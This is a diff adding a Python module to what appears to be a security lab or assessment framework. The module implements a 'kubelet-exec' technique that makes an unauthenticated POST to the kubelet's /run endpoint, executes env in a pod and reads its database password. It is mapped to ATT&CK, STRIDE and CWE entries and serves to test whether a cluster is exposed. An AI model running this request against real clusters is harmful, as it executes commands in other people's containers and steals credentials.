@@ -1,0 +1,72 @@
+"""Run a command in somebody else's container through the kubelet's port, without a credential.
+
+What a container is given as its environment lies open to whoever can run a command in it.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.techniques._ask import ask, first_refusal
+from labkit.techniques._base import NETWORK, POD, SECRETS, USER_ON_WORKER, Prediction, Technique
+from labkit.techniques._kubelet import CHANNEL, as_apiserver, kubelet_url
+from labkit.techniques._reach import Answer
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+WANTED = ("shop", "db-credentials", "password")
+#: The kubelet's oldest way to run something: one request, the answer is the output.
+PATH = "/run/shop/web/web?cmd=env"
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the kubelet lets the anonymous in, and do everything."""
+    channel = view.channels(CHANNEL)[0]
+    return first_refusal(
+        (channel.client_authentication, ("anonymous", "none")),
+        (channel.authorization, ("allow-all",)),
+    )
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Run ``env`` in the pod shop/web."""
+    secret = true_secret(lab, *WANTED)
+
+    def proof(answer: Answer) -> str:
+        if not secret.found_in(answer.body):
+            raise ProbeError("the kubelet answered, but not with the container's environment")
+        return f"ran env in shop/web, and read: {secret.proof}"
+
+    def control() -> str:
+        proof(as_apiserver(lab, "POST", PATH))
+        return "with the apiserver's certificate, the same request runs the command"
+
+    url = kubelet_url(lab, PATH)
+    return ask(lab, TECHNIQUE.name, foothold, url, method="POST", proof=proof, control=control)
+
+
+TECHNIQUE = Technique(
+    name="kubelet-exec",
+    title="Run a command in a container through the kubelet",
+    footholds=(NETWORK, USER_ON_WORKER, POD),
+    grants=(POD, SECRETS),
+    about=CHANNEL,
+    properties=("client_authentication", "authorization"),
+    attack=("T1609", "T1552.007"),
+    stride=("elevation of privilege", "information disclosure"),
+    cwe=("CWE-306", "CWE-862"),
+    sources=(
+        "Securing communications in Kubernetes (2016), The kubelet",
+        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/",
+        "https://attack.mitre.org/techniques/T1609/",
+    ),
+    predict=predict,
+    execute=execute,
+)
